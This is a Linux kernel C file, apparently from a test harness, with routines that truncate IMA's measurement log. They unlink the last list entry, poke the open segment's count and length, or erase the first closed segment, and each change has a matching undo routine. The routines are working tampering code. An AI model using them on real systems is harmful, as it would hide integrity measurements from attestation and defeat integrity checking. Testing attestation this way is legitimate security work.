// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks on where the list of measurements ends and begins: an entry that is not shown
 * need not be changed. Nothing is to be measured before they are undone.
 */
#include <linux/fs.h>
#include <linux/rbtree.h>
#include <linux/rculist.h>
#include <linux/unaligned.h>

#include "attack.h"
#undef pr_fmt
#include "ima.h"

/* The open segment's, in mode "full". An unpatched kernel has none. */
static u32 *count, *len;
static u32 saved_count, saved_len;
static bool cut;

/* The last entry of IMA's own list. */
static struct ima_queue_entry *last;

static struct rb_root *closed;
static struct rb_node *head;

/* Each record begins with its length. */
static int cut_open(const u8 *data)
{
	u32 offset = 0, left = *count - 1;
	int rc;

	saved_count = *count;
	saved_len = *len;
	cut = true;
	rc = poke(count, &left, sizeof(left));
	while (left--)
		offset += get_unaligned_le32(data + offset);
	return rc ?: poke(len, &offset, sizeof(offset));
}

static int cut_list(void)
{
	struct list_head *list = find_symbol("ima_measurements");

	if (!list || list_empty(list))
		return -ENOENT;
	last = list_last_entry(list, struct ima_queue_entry, later);
	list_del_rcu(&last->later);
	return 0;
}

int attack_log_tail(const struct target *t)
{
	u8 **data = find_symbol("open_data");

	count = find_symbol("open_count");
	len = find_symbol("open_len");
	if (data && *data && count && len)
		return *count ? cut_open(*data) : -ENOENT;
	return cut_list();
}

void undo_log_tail(void)
{
	struct list_head *list = find_symbol("ima_measurements");

	if (cut) {
		poke(count, &saved_count, sizeof(saved_count));
		poke(len, &saved_len, sizeof(saved_len));
	}
	if (last)
		list_add_tail_rcu(&last->later, list);
	cut = false;
	last = NULL;
}

/* The closed segments stand in a tree; the first one is taken out. */
int attack_log_head(const struct target *t)
{
	closed = find_symbol("log_closed");
	head = closed ? rb_first(closed) : NULL;
	if (!head)
		return -ENOENT;
	rb_erase(head, closed);
	return 0;
}

void undo_log_head(void)
{
	struct rb_node **link, *parent = NULL;

	if (!head)
		return;
	for (link = &closed->rb_node; *link; link = &parent->rb_left)
		parent = *link;
	rb_link_node(head, parent, link);
	rb_insert_color(head, closed);
	head = NULL;
}
